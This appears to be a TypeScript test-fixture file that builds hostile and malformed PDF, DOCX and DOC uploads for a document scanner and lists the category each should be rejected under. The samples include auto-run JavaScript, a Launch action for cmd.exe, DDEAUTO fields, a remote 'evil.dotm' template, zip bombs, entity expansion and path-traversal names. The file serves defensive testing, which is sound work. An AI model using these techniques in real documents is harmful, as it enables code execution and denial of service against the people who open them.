import { deflateSync } from 'node:zlib'
import { compoundOf } from './compound-file.ts'
import type { Harmful } from './harmful-files.ts'
import { MARK, noise, text, zipOf } from './harmful-files.ts'

const MB = 1024 * 1024
/** What one of the documents says that it expands to. */
export const EXPANDS_TO = 2_000_000_000

/** A PDF of these objects. */
const pdfOf = (...objects: (string | Buffer)[]): Buffer =>
  Buffer.concat([
    text('%PDF-1.7\n'),
    ...objects.flatMap((one, at) => [
      text(`${at + 1} 0 obj`),
      Buffer.from(one as string, 'latin1'),
      text('\nendobj\n'),
    ]),
    text('trailer<</Root 1 0 R>>\n%%EOF\n'),
  ])
const streamOf = (says: string, data: Buffer): Buffer =>
  Buffer.concat([text(`<<${says}/Length ${data.length}>>stream\n`), data, text('\nendstream ')])
/** Objects that are compressed together. */
const collection = (objects: string, says = '/Type/ObjStm/N 1/First 5/Filter/FlateDecode'): Buffer =>
  streamOf(says, deflateSync(text(`7 0  ${objects}`)))

const catalog = '<</Type/Catalog/Pages 2 0 R/OpenAction[3 0 R/Fit]>>'
const script = '<</S/JavaScript/JS(app.alert(1))>>'
export const soundPdf = pdfOf(catalog, collection('<</Type/Pages/Count 0/Kids[]>>'))

export async function harmfulPdfs(): Promise<Harmful[]> {
  const zip = await zipOf({ 'index.html': 'x' })
  const commented = Buffer.concat([zip, text('\n%%EOF')])
  commented.writeUInt16LE(6, commented.lastIndexOf(text('PK\x05\x06')) + 20)
  const opens = (action: string): Buffer => pdfOf(`<</Type/Catalog/OpenAction${action}>>`)
  const spelled = '/#4a#61vaScrip#74'
  return [
    { what: 'a PDF that runs a script when it is opened', bytes: opens(script), ends: 'files/programs' },
    { what: 'a PDF that starts a program', bytes: opens('<</S/Launch/F(cmd.exe)>>'), ends: 'files/programs' },
    {
      what: 'a PDF whose script has an escaped name',
      bytes: opens(`<</S/J#61vaScript/JS(x)>>`),
      ends: 'files/programs',
    },
    { what: 'a PDF whose script is named elsewhere', bytes: pdfOf(catalog, spelled), ends: 'files/programs' },
    { what: 'a PDF with a compressed script', bytes: pdfOf(catalog, collection(script)), ends: 'files/programs' },
    {
      what: 'a PDF with a compressed script that says it is a picture',
      bytes: pdfOf(catalog, collection(script, '/Subtype/Image/Filter/FlateDecode')),
      ends: 'files/programs',
    },
    {
      what: 'a PDF with objects in letters for numbers',
      bytes: pdfOf(catalog, streamOf('/Type/Obj#53tm/Filter/ASCIIHexDecode', text('3c3c2f532f4a61>'))),
      ends: 'files/unreadable',
    },
    {
      what: 'a PDF with objects that are differences of bytes',
      bytes: pdfOf(
        catalog,
        streamOf('/Type/ObjStm/Filter/FlateDecode/DecodeParms<</Predictor 12>>', deflateSync(text(''))),
      ),
      ends: 'files/unreadable',
    },
    {
      what: 'a PDF with objects that expand to 40 MB',
      bytes: pdfOf(catalog, collection(' '.repeat(40 * MB))),
      ends: 'files/unreadable',
    },
    {
      what: 'a PDF with a script for a link',
      bytes: opens('<</S/URI/URI(javascript:alert(1))>>'),
      ends: 'files/programs',
    },
    {
      what: 'a PDF with a form of its own language',
      bytes: pdfOf('<</AcroForm<</XFA 2 0 R>>>>'),
      ends: 'files/programs',
    },
    { what: 'a PDF that sends a form', bytes: opens('<</S/SubmitForm/F(https://a.example)>>'), ends: 'files/programs' },
    { what: 'a PDF with a film', bytes: pdfOf('<</Subtype/RichMedia>>'), ends: 'files/programs' },
    { what: 'a PDF with a file in it', bytes: pdfOf('<</Type/EmbeddedFile>>'), ends: 'files/other_files' },
    {
      what: 'a PDF with a compressed attachment',
      bytes: pdfOf(catalog, collection('<</Subtype/FileAttachment>>')),
      ends: 'files/other_files',
    },
    { what: 'a PDF behind a password', bytes: pdfOf(catalog, '<</Encrypt 9 0 R>>'), ends: 'files/locked' },
    { what: 'a PDF that is a web page too', bytes: pdfOf(catalog, `(${MARK})`), ends: 'files/disguised' },
    { what: 'a PDF that is a zip too', bytes: Buffer.concat([soundPdf, commented]), ends: 'files/disguised' },
    {
      what: 'a PDF that goes on as something else',
      bytes: Buffer.concat([soundPdf, text('import os;'.repeat(50))]),
      ends: 'files/unreadable',
    },
    { what: 'a PDF that is cut off', bytes: soundPdf.subarray(0, -20), ends: 'files/unreadable' },
    { what: 'a PDF with nothing in it', bytes: text('%PDF-1.7\n         \n%%EOF'), ends: 'files/unreadable' },
    {
      what: 'a web page with a PDF in it',
      bytes: Buffer.concat([text(`<html>${MARK}`), soundPdf]),
      ends: 'files/wrong_kind',
    },
    {
      what: 'a PDF a byte too long',
      bytes: Buffer.concat([soundPdf, Buffer.alloc(5 * MB - soundPdf.length + 1)]),
      ends: 'files/too_large',
    },
    { what: 'nothing', bytes: Buffer.alloc(0), ends: 'files/none' },
    { what: 'a program of Windows', bytes: text(`MZ${'\0'.repeat(60)}PE`), name: 'cv.pdf', ends: 'files/wrong_kind' },
    { what: 'a program of Linux', bytes: text(`\x7fELF${'\0'.repeat(60)}`), name: 'cv.docx', ends: 'files/wrong_kind' },
    {
      what: 'a picture where a document is wanted',
      bytes: await noise(20, 20).png().toBuffer(),
      ends: 'files/wrong_kind',
    },
    { what: 'a PDF called a program elsewhere', bytes: soundPdf, name: '../../..\\etc/cv.exe', ends: 'kept' },
  ]
}

const RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const relation = (type: string, target: string, more = ' TargetMode="External"'): string =>
  `<Relationships><Relationship Id="r1" Type="${RELATIONS}/${type}" Target="${target}"${more}/></Relationships>`

const docxParts = {
  '[Content_Types].xml': '<Types/>',
  'word/document.xml': '<w:document><w:t>Analyste</w:t></w:document>',
  'word/_rels/document.xml.rels': relation('hyperlink', 'https://a.example'),
  'word/media/image1.png': 'a picture',
}
/** A DOCX with more, or other parts, than an ordinary one. */
const docxOf = (parts: Record<string, Buffer | string> = {}): Promise<Buffer> => zipOf({ ...docxParts, ...parts })

/** Writes another number into the table of contents of a zip, where its last entry is. */
function saying(zip: Buffer, at: number, bytes: number): Buffer {
  const copy = Buffer.from(zip)
  copy.writeUInt32LE(bytes, copy.lastIndexOf(text('PK\x01\x02')) + at)
  return copy
}
const EXPANDED = 24

export async function harmfulDocx(): Promise<Harmful[]> {
  const sound = await docxOf()
  const locked = Buffer.from(sound)
  locked.writeUInt16LE(1, locked.lastIndexOf(text('PK\x01\x02')) + 8)
  const many = Object.fromEntries(Array.from({ length: 2_100 }, (_, at) => [`word/${at}.xml`, '']))
  const renamed = (to: string): Buffer => text(sound.toString('latin1').replaceAll('word/media/image1.png', to))
  const entities = `<!DOCTYPE a [<!ENTITY b "${'c'.repeat(99)}"><!ENTITY d "&b;&b;&b;&b;">]><w:document>&d;</w:document>`
  const rels = 'word/_rels/settings.xml.rels'
  const template = relation('attachedTemplate', 'https://a.example/evil.dotm')
  const pieces = '<w:document><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\a.exe</w:instrText></w:document>'
  const [small, large] = ['word/z.xml', Buffer.alloc(2 * MB, ' ')]
  return [
    { what: 'a DOCX that expands to 2 GB', bytes: saying(sound, EXPANDED, EXPANDS_TO), ends: 'files/unreadable' },
    {
      what: 'a DOCX of 101 MB of nothing',
      bytes: await docxOf({ 'word/media/a.png': Buffer.alloc(101 * MB) }),
      ends: 'files/unreadable',
    },
    {
      what: 'a DOCX with 30 MB of text',
      bytes: await docxOf({ 'word/z.xml': Buffer.alloc(30 * MB, ' ') }),
      ends: 'files/unreadable',
    },
    {
      what: 'a DOCX that expands to more than it says',
      bytes: saying(await docxOf({ [small]: large }), EXPANDED, 100),
      ends: 'files/unreadable',
    },
    { what: 'a DOCX with 2 100 parts', bytes: await docxOf(many), ends: 'files/unreadable' },
    { what: 'a DOCX with macros', bytes: await docxOf({ 'word/vbaProject.bin': 'macro' }), ends: 'files/programs' },
    {
      what: 'a DOCM under another name',
      bytes: await docxOf({ '[Content_Types].xml': '<Types><Default ContentType="a.macroEnabled.main+xml"/></Types>' }),
      name: 'cv.docx',
      ends: 'files/programs',
    },
    { what: 'a DOCX with a control', bytes: await docxOf({ 'word/activeX/a.xml': '<a/>' }), ends: 'files/programs' },
    {
      what: 'a DOCX that starts a program by a field',
      bytes: await docxOf({ 'word/document.xml': pieces }),
      ends: 'files/programs',
    },
    { what: 'a DOCX with a template elsewhere', bytes: await docxOf({ [rels]: template }), ends: 'files/outside' },
    {
      what: 'a DOCX with a template elsewhere, in numbers',
      bytes: await docxOf({ [rels]: template.replace('External', '&#x45;xternal') }),
      ends: 'files/outside',
    },
    {
      what: 'a DOCX with a picture elsewhere',
      bytes: await docxOf({ [rels]: relation('image', 'https://a.example/p.png') }),
      ends: 'files/outside',
    },
    {
      what: 'a DOCX with a script for a link',
      bytes: await docxOf({ [rels]: relation('hyperlink', 'javascript:alert(1)') }),
      ends: 'files/programs',
    },
    {
      what: 'a DOCX with an object',
      bytes: await docxOf({ 'word/embeddings/oleObject1.bin': 'x' }),
      ends: 'files/other_files',
    },
    {
      what: 'a DOCX with a page of another kind',
      bytes: await docxOf({ [rels]: relation('aFChunk', 'a.xml', '') }),
      ends: 'files/other_files',
    },
    { what: 'a DOCX with a zip in it', bytes: await docxOf({ 'word/media/a.zip': sound }), ends: 'files/other_files' },
    { what: 'a DOCX with a program in it', bytes: await docxOf({ 'word/cv.exe': 'MZ' }), ends: 'files/other_files' },
    {
      what: 'a DOCX with words that grow',
      bytes: await docxOf({ 'word/document.xml': entities }),
      ends: 'files/unreadable',
    },
    {
      what: 'a DOCX in letters of two bytes',
      bytes: await docxOf({ [rels]: Buffer.from(template, 'utf16le') }),
      ends: 'files/unreadable',
    },
    { what: 'a DOCX behind a password', bytes: locked, ends: 'files/locked' },
    { what: 'a DOCX that writes elsewhere', bytes: renamed('../../../../etc/hosts'), ends: 'files/unreadable' },
    {
      what: 'a DOCX with a part of an absolute name',
      bytes: renamed('/etc/cron.d/florin-12'),
      ends: 'files/unreadable',
    },
    {
      what: 'a DOCX with two texts',
      bytes: renamed('word/document.xml\0\0\0\0'.slice(0, 17).padEnd(21, 'x')),
      ends: 'files/other_files',
    },
    { what: 'a DOCX that is cut off', bytes: sound.subarray(0, -30), ends: 'files/unreadable' },
    { what: 'a zip that is no DOCX', bytes: await zipOf({ 'index.xml': MARK }), ends: 'files/unreadable' },
    {
      what: 'a DOCX that is a PDF too',
      bytes: await zipOf({ 'a%PDF-1.7.xml': '<a/>', ...docxParts }),
      ends: 'files/disguised',
    },
    { what: 'an ordinary DOCX', bytes: sound, name: 'cv.pdf', ends: 'kept' },
  ]
}

/** The beginning of a Word 97 document. */
function wordDocument(flags = 0, more = ''): Buffer {
  const bytes = Buffer.alloc(5_000)
  bytes.writeUInt16LE(0xa5_ec, 0)
  bytes.writeUInt16LE(0xc1, 2)
  bytes.writeUInt16LE(flags, 10)
  bytes.write(more, 2_000, 'utf16le')
  return bytes
}
const docOf = (...more: Parameters<typeof compoundOf>[0]): Buffer =>
  compoundOf([
    { name: 'WordDocument', data: wordDocument() },
    { name: '1Table', data: text('table') },
    { name: 'ObjectPool' },
    ...more,
  ])

export function harmfulDocs(): Harmful[] {
  const sound = docOf()
  const patched = (at: number, value: number): Buffer => {
    const copy = Buffer.from(sound)
    copy.writeUInt32LE(value, at)
    return copy
  }
  const only = (name: string): Buffer => compoundOf([{ name, data: text('x') }])
  const word = (flags: number, more?: string): Buffer =>
    compoundOf([
      { name: 'WordDocument', data: wordDocument(flags, more) },
      { name: '1Table', data: text('table') },
    ])
  const pdfToo = Buffer.from(sound)
  // Behind the header, where no sector is said to be.
  pdfToo.write('%PDF-1.7', 900, 'latin1')
  return [
    {
      what: 'a DOC with macros',
      bytes: docOf({ name: 'Macros', inside: 'VBA' }, { name: 'VBA', inside: 'dir' }, { name: 'dir', data: text('x') }),
      ends: 'files/programs',
    },
    {
      what: 'a DOC with macros under another name',
      bytes: docOf({ name: '_VBA_PROJECT', data: text('x') }),
      ends: 'files/programs',
    },
    {
      what: 'a DOC that starts a program by a field',
      bytes: word(0, '\x13 DDEAUTO c:\\a.exe \x14'),
      ends: 'files/programs',
    },
    { what: 'a DOC behind a password', bytes: word(0x01_00), ends: 'files/locked' },
    { what: 'a newer document behind a password', bytes: only('EncryptedPackage'), ends: 'files/locked' },
    {
      what: 'a DOC with objects',
      bytes: compoundOf([
        { name: 'WordDocument', data: wordDocument() },
        { name: '1Table', data: text('table') },
        { name: 'ObjectPool', inside: '_1234' },
        { name: '_1234' },
      ]),
      ends: 'files/other_files',
    },
    {
      what: 'a DOC with a file dragged into it',
      bytes: docOf({ name: '\x01Ole10Native', data: text('a.exe') }),
      ends: 'files/other_files',
    },
    { what: 'a sheet of Excel called a DOC', bytes: only('Workbook'), name: 'cv.doc', ends: 'files/wrong_kind' },
    {
      what: 'slides of PowerPoint called a DOC',
      bytes: only('PowerPoint Document'),
      name: 'cv.doc',
      ends: 'files/wrong_kind',
    },
    { what: 'an installer called a DOC', bytes: only('\u4840\u3f3f'), name: 'cv.doc', ends: 'files/wrong_kind' },
    { what: 'a DOC whose contents never end', bytes: patched(512 + 4, 1), ends: 'files/unreadable' },
    { what: 'a DOC with a part of 4 GB', bytes: patched(1_024 + 128 + 120, 0xff_ff_ff_f0), ends: 'files/unreadable' },
    {
      what: 'a DOC with a part beyond its end',
      bytes: patched(1_024 + 128 + 116, 0x00_ff_ff_ff),
      ends: 'files/unreadable',
    },
    { what: 'a DOC with chains beyond its end', bytes: patched(68, 0x00_ff_ff_ff), ends: 'files/unreadable' },
    { what: 'a DOC that is cut off', bytes: sound.subarray(0, 1_500), ends: 'files/unreadable' },
    {
      what: 'a DOC that is a beginning only',
      bytes: Buffer.concat([sound.subarray(0, 8), Buffer.alloc(512)]),
      ends: 'files/unreadable',
    },
    { what: 'a DOC that is a PDF too', bytes: pdfToo, ends: 'files/disguised' },
    { what: 'an ordinary DOC', bytes: sound, name: 'cv.doc', ends: 'kept' },
  ]
}
